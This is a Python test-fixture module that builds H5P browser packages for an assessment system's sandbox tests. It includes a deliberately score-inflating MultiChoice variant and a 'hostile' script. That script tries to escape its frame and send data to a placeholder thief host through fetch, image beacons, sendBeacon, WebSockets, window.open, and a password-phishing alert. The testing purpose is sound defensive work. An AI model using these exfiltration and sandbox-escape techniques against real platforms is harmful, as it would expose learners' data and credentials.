"""Packages that are played in a browser: one that does all that H5P's own do, and one that
tries to get out of its frame."""

from base64 import b64decode
from typing import Any

from assessments.h5p.formats import Dependency
from tests.assessments.h5p.packages import Parts, dumped, library, manifest, question

Data = dict[str, Any]
# One grey point.
SHIELD = b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNoAAAAggCBd81ytgAAAABJRU5ErkJggg=="
)
# Uses storage, takes up what was there before, and stumbles over a state that it does not know.
SCRIPT = """
localStorage.setItem("opened", "yes");
sessionStorage.setItem("opened", localStorage.getItem("opened"));
document.cookie = "opened=yes";
var H5P = H5P || {};
H5P.QalqanPlay = function (params, contentId, extras) {
  var self = this, state = (extras && extras.previousState) || {presses: 0};
  H5P.EventDispatcher.call(this);
  this.contentId = contentId;
  if (state.presses === "many") { throw new Error("not a number"); }
  this.getScore = function () { return Math.min(state.presses, 1); };
  this.getMaxScore = function () { return 1; };
  this.getCurrentState = function () { return {presses: state.presses}; };
  this.getXAPIData = function () {
    var event = self.createXAPIEventTemplate("answered");
    event.setScoredResult(self.getScore(), 1, self, true, true);
    return {statement: event.data.statement, children: []};
  };
  this.attach = function ($container) {
    var button = document.createElement("button");
    var line = document.createElement("p");
    var picture = document.createElement("img");
    picture.alt = "";
    H5P.setSource(picture, {path: "images/shield.png"}, contentId);
    button.textContent = params.text;
    button.addEventListener("click", function () {
      state.presses += 1;
      line.textContent = "pressed " + state.presses;
      line.style.height = "600px";
      self.triggerXAPIScored(self.getScore(), 1, "answered", true);
    });
    line.textContent = "pressed " + state.presses;
    $container.append(button, line, picture);
    self.setActivityStarted();
  };
};
"""
# A choice as H5P's own reports it; where it lies, it claims all points whatever was chosen.
CHOICE = """
var H5P = H5P || {};
H5P.MultiChoice = function (params, contentId, extras) {
  var self = this, chosen = (extras && extras.previousState) || null;
  H5P.EventDispatcher.call(this);
  this.contentId = contentId;
  function isRight() { return chosen !== null && params.answers[chosen].correct; }
  this.getScore = function () { return @lies@ || isRight() ? 1 : 0; };
  this.getMaxScore = function () { return 1; };
  this.getCurrentState = function () { return chosen; };
  this.getXAPIData = function () {
    var event = self.createXAPIEventTemplate("answered");
    event.setScoredResult(self.getScore(), 1, self, true, self.getScore() === 1);
    event.data.statement.result.response = String(chosen);
    return {statement: event.data.statement};
  };
  this.attach = function ($container) {
    params.answers.forEach(function (answer, place) {
      var button = document.createElement("button");
      button.innerHTML = answer.text;
      button.setAttribute("aria-pressed", String(place === chosen));
      button.addEventListener("click", function () {
        chosen = place;
        $container.find("button").attr("aria-pressed", "false");
        button.setAttribute("aria-pressed", "true");
        var event = self.createXAPIEventTemplate("answered");
        event.setScoredResult(self.getScore(), 1, self, true, self.getScore() === 1);
        self.trigger(event);
      });
      $container.append(button);
    });
    self.setActivityStarted();
  };
};
"""
# Each way out says "free" where it is one, else what it was stopped by.
HOSTILE = """
var H5P = H5P || {};
H5P.QalqanThief = function () { H5P.EventDispatcher.call(this); };
H5P.QalqanThief.prototype.attach = function ($container) {
  var SITE = "@site@", THIEF = "@thief@";
  function later(begin) {
    return new Promise(function (done) {
      try { begin(done); } catch (error) { done(error.name); }
    });
  }
  function asked(address) {
    return fetch(address, {credentials: "include", mode: "no-cors"});
  }
  var ways = {
    parent: function (done) { parent.document.title = "mine"; done("free"); },
    top: function (done) { top.location = THIEF + "/top"; setTimeout(done, 300, "ignored"); },
    fetchSite: function (done) { asked(SITE + "/kk/").then(done.bind(0, "free"), fail(done)); },
    fetchThief: function (done) { asked(THIEF + "/f").then(done.bind(0, "free"), fail(done)); },
    request: function (done) {
      var request = new XMLHttpRequest();
      request.onload = function () { done("free"); };
      request.onerror = function () { done("error"); };
      request.open("GET", SITE + "/kk/");
      request.send();
    },
    picture: function (done) {
      var picture = new Image();
      picture.onload = function () { done("free"); };
      picture.onerror = function () { done("error"); };
      picture.src = THIEF + "/picture.png?told=all";
    },
    beacon: function (done) { navigator.sendBeacon(THIEF + "/beacon", "all"); done("silent"); },
    socket: function (done) {
      var socket = new WebSocket(THIEF.replace("http", "ws") + "/socket");
      socket.onopen = function () { done("free"); };
      socket.onerror = function () { done("error"); };
    },
    open: function (done) { done(window.open(THIEF + "/open") ? "free" : "null"); },
    link: function (done) {
      var link = document.createElement("a");
      link.href = THIEF + "/link";
      link.target = "_blank";
      document.body.appendChild(link).click();
      setTimeout(done, 300, "ignored");
    },
    form: function (done) {
      var form = document.createElement("form");
      form.method = "post";
      form.action = SITE + "/kk/sign-in/";
      document.body.appendChild(form).submit();
      setTimeout(done, 300, "ignored");
    },
    frame: function (done) {
      var frame = document.createElement("iframe");
      frame.src = THIEF + "/frame";
      document.body.appendChild(frame);
      setTimeout(done, 300, "ignored");
    },
    database: function (done) {
      var request = indexedDB.open("kept");
      request.onsuccess = function () { done("free"); };
      request.onerror = function () { done("error"); };
    },
    worker: function (done) {
      navigator.serviceWorker.register("worker.js").then(done.bind(0, "free"), fail(done));
    },
    caches: function (done) { caches.open("kept").then(done.bind(0, "free"), fail(done)); },
    place: function (done) {
      navigator.geolocation.getCurrentPosition(done.bind(0, "free"), done.bind(0, "error"));
    },
    cookie: function (done) {
      document.cookie = "kept=yes";
      done(document.cookie ? "free" : "empty");
    },
    alert: function (done) { alert("Your password, please"); done("ignored"); }
  };
  function fail(done) { return function (error) { done(error.name); }; }
  Promise.all(Object.keys(ways).map(function (name) {
    return later(ways[name]).then(function (end) { return [name, end]; });
  })).then(function (ends) {
    var said = document.createElement("pre");
    said.textContent = JSON.stringify(Object.fromEntries(ends));
    var button = document.createElement("button");
    button.textContent = "leave";
    button.addEventListener("click", function () { location.href = THIEF + "/told?all"; });
    $container.append(said, button);
  });
};
"""


def playing(text: str = "Қалқан") -> Parts:
    return _package("H5P.QalqanPlay", SCRIPT, {"text": text})


def choosing(*, lies: bool = False) -> Parts:
    """The question of which the first answer alone is right."""
    script = CHOICE.replace("@lies@", str(lies).lower())
    name = "H5P.MultiChoice-1.16/scripts/main.js"
    return {**question("H5P.MultiChoice"), name: script.encode()}


def hostile(site: str, thief: str) -> Parts:
    """Would tell `thief` all that it finds at `site`."""
    script = HOSTILE.replace("@site@", site).replace("@thief@", thief)
    return _package("H5P.QalqanThief", script, {})


def incomplete() -> Parts:
    """Its script is there and does not run."""
    return _package("H5P.QalqanNone", "throw new Error('nothing here');", {})


def _package(name: str, script: str, content: Data) -> Parts:
    version = Dependency(name, 1, 0)
    return {
        "h5p.json": dumped(manifest(version, title=name)),
        "content/content.json": dumped(content),
        "content/images/shield.png": SHIELD,
        **library(version),
        f"{version.folder}/scripts/main.js": script.encode(),
    }
